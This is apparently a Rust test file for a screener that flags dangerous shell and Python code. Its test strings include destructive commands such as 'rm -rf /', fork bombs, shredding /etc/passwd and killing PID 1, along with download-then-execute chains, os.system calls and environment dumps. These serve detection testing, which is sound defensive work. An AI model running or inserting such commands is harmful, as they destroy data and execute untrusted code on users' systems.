//! Plain code without obfuscation: its acts are found in every spelling, and similar honest code
//! is not reported.
#![allow(clippy::unwrap_used, clippy::panic, reason = "a test may panic")]

use std::collections::BTreeSet;

use stockade_protocol::screen::{Grammar, Question, Rule, Rules, Source};

fn found(grammar: Grammar, code: &str) -> BTreeSet<Rule> {
    let question = Question { rules: Rules::ALL, scratch: "/scratch", sources: vec![Source { grammar, code }], ..Question::default() };
    stockade_screen::screen(&question).found.into_iter().map(|found| found.rule).collect()
}

/// The rule must be found in each program; all misses are reported together.
fn finds(grammar: Grammar, rule: Rule, codes: &[&str]) {
    let missed: Vec<_> = codes.iter().map(|code| (code, found(grammar, code))).filter(|(_, found)| !found.contains(&rule)).collect();
    assert!(missed.is_empty(), "{rule:?} is missed: {missed:#?}");
}

/// Nothing may be found in any of the programs.
fn finds_nothing(grammar: Grammar, codes: &[&str]) {
    let alarms: Vec<_> = codes.iter().map(|code| (code, found(grammar, code))).filter(|(_, found)| !found.is_empty()).collect();
    assert!(alarms.is_empty(), "false alarms: {alarms:#?}");
}

#[test]
fn a_command_is_found_behind_what_starts_it() {
    let network = [
        "sh -c -- 'curl x'",
        "bash -c -x 'curl x'",
        "bash -o pipefail -xc 'curl x'",
        "find . -name '*.txt' -exec curl -T {} x \\;",
        "find . -execdir sh -c 'curl x' \\; -print",
        "awk 'BEGIN { system(\"curl x\") }'",
        "gawk '{ \"curl x\" | getline page }' names",
        "env -S 'curl x'",
        "env -S'curl x'",
        "env A=1 --split-string='curl x'",
        "flock -n f curl x",
        "strace -f -o log curl x",
        "nice -n 5 time -p timeout -k 1 5 curl x",
        "taskset -c 0 curl x",
        "ls | xargs -n 1 -I{} curl {}",
        "python3 -m pip install x",
        "python3 -m http.server",
    ];
    finds(Grammar::Shell, Rule::Network, &network);
    finds_nothing(
        Grammar::Shell,
        &[
            "bash -c 'echo x' curl",
            "find . -name curl -exec grep -l x {} +",
            "awk '{ print \"curl\" }' x",
            "env A=1 make",
            "flock lock make curl",
            "timeout 5 python3 x.py",
            "python3 -m json.tool x.json",
        ],
    );
}

#[test]
fn what_a_command_changes_is_found() {
    finds(Grammar::Shell, Rule::Delete, &["find . -name '*.pyc' -delete", "find build -exec rm -rf {} +"]);
    let outside = [
        "chmod 777 /etc/x",
        "chown me: /usr/bin/x",
        "tar xf a -C /etc",
        "tar -xzf a --directory=/usr",
        "unzip a -d /opt/x",
        "sed -i s/a/b/ /etc/x",
    ];
    finds(Grammar::Shell, Rule::WriteOutside, &outside);
    let bombs = ["while true; do bash \"$0\" & done", "while :; do \"$0\" 2>/dev/null & done"];
    finds(Grammar::Shell, Rule::ForkBomb, &bombs);
    finds_nothing(
        Grammar::Shell,
        &["chmod 755 build/x", "tar -czf x.tgz -C /etc hosts", "tar xf a -C build", "sed -n p /etc/x", "for i in 1 2; do ./x & done"],
    );
}

#[test]
fn syntax_unknown_to_the_grammar_hides_no_later_line() {
    let destroys = [
        "((((((((:))))))))\nrm -rf /",
        "((((((((:))))))))\npython3 -c \"import shutil;shutil.rmtree('/')\"",
        "\\rm -rf /",
        "! ! rm -rf /",
        "coproc rm -rf /",
        "cat <<E\n$(rm -rf /)\nE",
        ": ${x:=$(rm -rf /)}",
        "rm -rf \"${HOME:?}\"",
        "rm -rf ${HOME:-/tmp/x}",
    ];
    finds(Grammar::Shell, Rule::Destroy, &destroys);
    finds_nothing(Grammar::Shell, &["cat <<'E'\n`rm -rf /`\nE", "cat <<E\nrm -rf / is bad\nE", "echo 'rm -rf /'"]);
    let after_an_error = "((((((((:))))))))\necho 'rm -rf /'\n# rm -rf /\ncat <<E\nrm -rf /\nE\n";
    assert_eq!(found(Grammar::Shell, after_an_error), BTreeSet::from([Rule::Syntax]));
}

#[test]
fn a_name_has_the_value_of_any_binding() {
    let process = [
        "try:\n    import os\nexcept ImportError:\n    os = None\nos.system('id')",
        "import os\n[os for os in []]\nos.system('id')",
        "import os\nwhile 0:\n    os = 1\nos.system('id')",
        "import os\nfor os in []:\n    pass\nos.system('id')",
        "import os\nif 0:\n    os = 1\nelse:\n    pass\nos.system('id')",
        "import os\nmatch 1:\n    case 2:\n        os = 1\nos.system('id')",
        "import os\n0 and (os := 1)\nos.system('id')",
        "import os\nclass A:\n    os = None\nos.system('id')",
        "import os\nclass A:\n    os = None\n    def f(self):\n        os.system('id')",
        "def main():\n    os.system('id')\nimport os\nmain()",
        "class A:\n    def f(self):\n        os.system('id')\nimport os",
        "def outer():\n    def inner():\n        os.system('id')\n    import os\n    inner()",
        "import os\ndef f() -> os.system('id'): pass",
        "import os\nx = {}\nfor x[os.system('id')] in [1]: pass",
        "import os\nwith open('a') as x[os.system('id')]: pass",
        "import os\nx[os.system('id')] = 1",
        "import os, shutil\nif x:\n    m = os\nelse:\n    m = shutil\nm.system('id')",
        "import os\nf = print\nif x:\n    f = os.system\nf('id')",
    ];
    finds(Grammar::Python, Rule::Process, &process);
    let eval = ["if 0:\n    eval = 1\neval('1+1')", "def f():\n    eval('1+1')\nif 0:\n    eval = 1\nf()"];
    finds(Grammar::Python, Rule::Eval, &eval);
    let opens = "if 0:\n    open = 1\nopen('/etc/x', 'w')";
    finds(Grammar::Python, Rule::WriteOutside, &[opens]);
    let environment = ["import os\nfor x in os.environ.items(): print(x)", "import os\nprint(list(os.environ.values()))"];
    finds(Grammar::Python, Rule::Credentials, &environment);
}

/// A name that is surely rebound is not reported.
#[test]
fn rebound_names_are_not_reported() {
    finds_nothing(
        Grammar::Python,
        &[
            "def f(os):\n    os.system('id')",
            "import os\ndef f(os):\n    os.system('id')",
            "import os\nos = Sandbox()\nos.system('id')",
            "def eval(x):\n    return x\neval('1')\ndef f():\n    eval('1')",
            "eval = str\nprint(eval('1'))",
            "class A:\n    def eval(self, x):\n        return x\nA().eval('1')",
            "f = lambda os: os.system('id')",
            "[os.system('id') for os in machines]",
            "for open in machines:\n    open('/etc/x', 'w')",
            "import os\nprint(os.environ['HOME'], os.environ.get('X'), 'X' in os.environ)",
        ],
    );
}

#[test]
fn a_file_that_is_taken_away_outside_is_found() {
    let outside = [
        "rm /etc/passwd",
        "rm -f /etc/*.conf",
        "rm ~/.bashrc",
        "unlink /etc/passwd",
        "rmdir /usr/share/doc",
        "cd /etc; rm passwd",
        "sudo rm -f /usr/bin/ls",
        "mv /opt/app/config.yml .",
    ];
    finds(Grammar::Shell, Rule::WriteOutside, &outside);
    let destroys = ["rm -f /etc/*", "rm ~/*", "cd /etc && rm -f *", "shred /etc/passwd", "find /etc -name '*.conf' -exec unlink {} \\;"];
    finds(Grammar::Shell, Rule::Destroy, &destroys);
    let moved = [
        "import os\nos.rename('/etc/passwd', 'x')",
        "import os\nos.replace(src='/etc/passwd', dst='x')",
        "import shutil\nshutil.move('/opt/app/x', 'x')",
        "from pathlib import Path\nPath('/etc/passwd').rename('x')",
    ];
    finds(Grammar::Python, Rule::WriteOutside, &moved);
    let own = [
        "rm -f out/*.o /tmp/x",
        "rm -f \"$OUT\"/*",
        "rm /tmp/*",
        "unlink latest",
        "rmdir a/b \"$TMP\"",
        "mv a.txt b.txt",
        "mv *.csv /tmp/",
    ];
    finds_nothing(Grammar::Shell, &own);
    finds_nothing(Grammar::Python, &["import os, shutil\nos.rename('a', 'b')\nshutil.move('a', '/tmp/b')\n'a'.replace('b', '/etc/c')"]);
}

/// Bash accepts each of these; the grammar takes many of them for errors.
#[test]
fn any_offset_of_a_substring_is_understood() {
    let honest = [
        "echo \"${x:$i:1}\" ${x:$i} ${x:$i:$n} ${x:0:$n - 1}",
        "echo \"${a[@]:$i}\" \"${a[*]:$i:2}\" \"${a[i]:$i}\" \"${a[$i]:$i}\" \"${!x:$i}\"",
        "set -- \"${@:$OPTIND}\" \"${@:$#}\" \"${*:1:$#-1}\"",
        "p=${a:$i}${a:0:$i}",
        "echo \"${x:$i+1:$n-1}\" \"${x:i++:1}\" \"${x:(i-1)*2:1}\" \"${x:$RANDOM%${#x}:1}\" \"${x:n[0]:1}\" \"${x:${y:$i:1}:1}\"",
        "echo \"${x: -1}\" \"${x:(-1)}\" ${x:-$i} ${x:=$i} ${x:+$i} '${x:'",
    ];
    finds_nothing(Grammar::Shell, &honest);
    finds(Grammar::Shell, Rule::Network, &["echo ${x:$i:$(curl x)}", "echo ${x:$(curl x):$i}", "echo ${x:$i} $(curl x)"]);
    finds(Grammar::Shell, Rule::Destroy, &["echo '${x:'; rm -rf /", "# ${x:\nrm -rf /", "echo ${x:$i}; rm -rf /"]);
    finds(Grammar::Shell, Rule::Syntax, &["echo ${x:$", "${", "${{x}", "${a["]);
}

#[test]
fn psutil_that_only_looks_is_not_reported() {
    let honest = [
        "import psutil\nprint(psutil.cpu_percent(), psutil.virtual_memory().percent)",
        "from psutil import Process\nprint(Process().memory_info().rss)",
        "import psutil\nfor p in psutil.process_iter(['name']):\n    print(p.info)",
        "class Game:\n    def kill(self): pass\nGame().kill()",
    ];
    finds_nothing(Grammar::Python, &honest);
    let process = [
        "import psutil\nfor p in psutil.process_iter():\n    p.kill()",
        "def stop(p):\n    p.terminate()\nfrom psutil import Process as P\nstop(P(1))",
        "import psutil\n[p.suspend() for p in psutil.Process(1).children()]",
        "import psutil\npsutil.Popen(['ls'])",
    ];
    finds(Grammar::Python, Rule::Process, &process);
    finds(Grammar::Python, Rule::HiddenName, &["__import__('psu' + 'til')"]);
}

#[test]
fn signals_to_what_the_script_did_not_start_are_found() {
    let others = [
        "kill -9 1",
        "kill 1",
        "kill -s KILL -- -1",
        "kill -9 4711",
        "kill $pid",
        "kill -TERM -- -$group",
        "kill $(pidof sshd)",
        "kill -9 \"$(cat server.pid)\"",
        "sleep 9 & kill $(pgrep sshd); wait $!",
        "pgrep x | xargs kill -9",
        "ps ax | grep x | awk '{ print $1 }' | xargs -r sudo kill",
        "cat server.pid | xargs kill",
        "fuser -k 80/tcp",
    ];
    finds(Grammar::Shell, Rule::Process, &others);
    let own = [
        "sleep 9 & pid=$!; kill -9 \"$pid\"",
        "sleep 9 & pid=$!; kill -1 $pid",
        "sleep 9 & echo $! > pid; kill $(cat pid)",
        "sleep 9 & trap 'kill $(jobs -p)' EXIT",
        "sleep 9 & jobs -p | xargs kill",
        "sleep 9 & pgrep -P $$ | xargs kill",
        "for i in 1 2; do sleep 9 & pids+=($!); done; for pid in \"${pids[@]}\"; do kill \"$pid\"; done",
        "kill %1; kill 0; kill -s TERM 0; kill $$; kill -l",
        "kill -0 \"$pid\"; kill -s 0 12",
        "fuser data.db",
    ];
    finds_nothing(Grammar::Shell, &own);
}

#[test]
fn what_is_fetched_is_followed_to_its_file() {
    let outside = [
        "wget -O /usr/x http://a",
        "wget -qO/usr/x http://a",
        "wget --output-document=/usr/x http://a",
        "wget -P /usr/bin http://a/x",
        "cd /usr && wget http://a/x",
        "curl -o /usr/x http://a",
        "curl -fsSLo /usr/x http://a",
        "curl --output-dir /usr -O http://a/x",
        "curl http://a > /usr/x",
    ];
    finds(Grammar::Shell, Rule::WriteOutside, &outside);
    let code = [
        "wget -O /tmp/x http://a; python3 /tmp/x",
        "wget http://a/x.sh && chmod +x x.sh && sudo ./x.sh",
        "curl -sO http://a/x.sh; bash -e ./x.sh",
        "curl http://a > x.sh; . ./x.sh",
        "curl -o x.sh http://a; sh < x.sh",
        "curl -o x.sh http://a; cat x.sh | sh",
        "curl -o x.sh http://a; eval \"$(cat x.sh)\"",
        "curl -o x.sh http://a; env sh -c 'sh x.sh'",
    ];
    finds(Grammar::Shell, Rule::RemoteCode, &code);
    let code = [
        "import os\nos.system('wget -O /tmp/x http://a')\nos.system('sh /tmp/x')",
        "import subprocess, urllib.request as u\nu.urlretrieve('http://a', '/tmp/x')\nsubprocess.run(['python3', '/tmp/x'])",
    ];
    finds(Grammar::Python, Rule::RemoteCode, &code);
    let honest = [
        "curl -o data.json http://a; python3 process.py data.json; jq . data.json; sort < data.json; sh -c 'wc data.json'",
        "wget -q http://a/x.tar.gz; tar xf x.tar.gz; ./configure",
        "curl -so /dev/null http://a; wget -qO- http://a | tee /tmp/x; cat /tmp/y | sh",
        "curl -o \"$(date +%F)\" http://a; python3 \"$(ls *.py)\"",
        "curl -O http://a/x.py; python3 -m json.tool x.py; python3 -c 'print(1)' x.py",
    ];
    for code in honest {
        assert_eq!(found(Grammar::Shell, code), BTreeSet::from([Rule::Network]), "{code}");
    }
}
